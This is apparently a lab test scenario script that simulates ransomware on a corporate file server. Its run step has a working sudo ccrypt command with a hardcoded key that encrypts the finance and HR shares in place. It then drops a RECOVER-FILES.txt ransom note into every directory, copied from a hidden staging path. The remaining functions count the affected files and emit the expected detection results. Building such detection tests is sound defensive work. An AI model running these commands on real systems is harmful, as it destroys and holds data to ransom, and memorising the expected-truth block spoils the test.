# ccrypt -r over the finance and HR shares (in-place overwrite, then rename to .cpt), run with sudo from
# dave's session; RECOVER-FILES.txt dropped in every directory of the two shares afterwards.
HOST=fs01.corp.example
SUMMARY="Attack: ccrypt -e -r (overwrites each file in place and renames it to .cpt) over the finance and HR shares, sudo from dave's session; RECOVER-FILES.txt in every share directory."
ROOTS="$RT_ROOT/shares/finance $RT_ROOT/shares/hr"

scenario_prepare() {
    rt_note_text > "$RT_DROP/RECOVER-FILES.txt"
    N_FILES=$(find $ROOTS -type f | wc -l); N_DIRS=$(find $ROOTS -type d | wc -l)
}
scenario_run() {
    rt_attack as_login dave "cd /srv/rt-lab/shares && sudo ccrypt -e -r -f -q -K 'x9!Tq2v#L0pZ' finance hr && sudo find finance hr -type d -exec cp /var/tmp/.font-cache/RECOVER-FILES.txt {} \;"
}
scenario_verify() {
    rt_check encrypted "$(find $ROOTS -name '*.cpt' | wc -l)" "$N_FILES" &&
    rt_check notes "$(find $ROOTS -name RECOVER-FILES.txt | wc -l)" "$N_DIRS"
}
scenario_truth() {
    cat <<Y
expected:
  - rootExe: /usr/bin/ccrypt
    rootCommandContains: "ccrypt -e -r"
    loginUser: dave
    runAsUser: root
    filesAffected: $N_FILES
    overwrite: in-place
    newExtension: .cpt
    notes: { name: RECOVER-FILES.txt, directories: $N_DIRS, droppedBy: "find -exec cp" }
    tools: [ccrypt]
    targetRoots: [/srv/rt-lab/shares/finance, /srv/rt-lab/shares/hr]
Y
}
